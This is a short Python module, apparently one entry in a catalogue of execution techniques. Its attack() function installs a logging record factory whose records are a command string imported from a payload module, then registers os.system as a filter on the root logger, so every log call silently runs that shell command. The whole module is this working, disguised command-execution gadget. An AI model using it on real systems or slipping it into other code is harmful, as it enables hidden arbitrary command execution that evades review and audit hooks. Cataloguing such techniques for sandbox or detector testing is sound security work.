"""A record is a command, and a filter of the root logger a C function."""
CATEGORY = "borrowed"
REACH = "run"

import logging
import os

from . import payload


class Record(str):
    """What a logger asks of a record, and a text."""

    def getMessage(self):
        return "text"


def make(*args, **kwargs):
    record = Record(payload.COMMAND)
    vars(record).update(vars(logging.LogRecord(*args, **kwargs)))
    return record


def attack():
    logging.setLogRecordFactory(make)
    logging.getLogger().addFilter(os.system)
